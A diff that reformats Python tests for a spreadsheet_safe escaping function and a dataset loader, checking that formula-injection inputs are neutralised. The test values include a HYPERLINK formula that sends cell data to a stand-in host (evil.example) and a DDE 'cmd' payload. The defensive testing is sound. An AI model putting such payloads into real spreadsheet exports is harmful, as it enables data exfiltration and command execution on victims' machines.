@@ -14,26 +14,29 @@ from tests.conftest import TINY_COMPANIES, write_dataset
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Anthropic")'
 
 
-@pytest.mark.parametrize(("value", "cell"), [
-    (HYPERLINK, "'" + HYPERLINK),
-    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
-    ("-2+3", "'-2+3"),
-    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
-    ("\tTAB", "'\tTAB"),
-    ("\rCR", "'\rCR"),
-    ("-", "'-"),
-    (-5, "-5"),
-    (-2.5e9, "-2500000000.0"),
-    ("-12.5", "-12.5"),
-    ("-inf", "'-inf"),
-    (1000000000, "1000000000"),
-    ("OpenAI", "OpenAI"),
-    ("a=b", "a=b"),
-    (" =1", " =1"),
-    ("", ""),
-    (None, ""),
-    (["investor", "cloud_provider"], "investor;cloud_provider"),
-])
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        (HYPERLINK, "'" + HYPERLINK),
+        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
+        ("\tTAB", "'\tTAB"),
+        ("\rCR", "'\rCR"),
+        ("-", "'-"),
+        (-5, "-5"),
+        (-2.5e9, "-2500000000.0"),
+        ("-12.5", "-12.5"),
+        ("-inf", "'-inf"),
+        (1000000000, "1000000000"),
+        ("OpenAI", "OpenAI"),
+        ("a=b", "a=b"),
+        (" =1", " =1"),
+        ("", ""),
+        (None, ""),
+        (["investor", "cloud_provider"], "investor;cloud_provider"),
+    ],
+)
 def test_spreadsheet_safe(value, cell):
     assert spreadsheet_safe(value) == cell
 
@@ -53,7 +56,11 @@ def test_validator_rejects_formula_names(tmp_path, name):
 
 
 def test_loader_strips_leading_tab_and_cr(tmp_path):
-    companies = [dict(TINY_COMPANIES[0], name="\tFund Capital"), dict(TINY_COMPANIES[1], name="\rLab AI"), *TINY_COMPANIES[2:]]
+    companies = [
+        dict(TINY_COMPANIES[0], name="\tFund Capital"),
+        dict(TINY_COMPANIES[1], name="\rLab AI"),
+        *TINY_COMPANIES[2:],
+    ]
     names = load_dataset(write_dataset(tmp_path / "data", companies=companies)).companies["name"]
     assert sorted(names)[:2] == ["App Co", "Chips Inc"] and "Fund Capital" in set(names) and "Lab AI" in set(names)
 
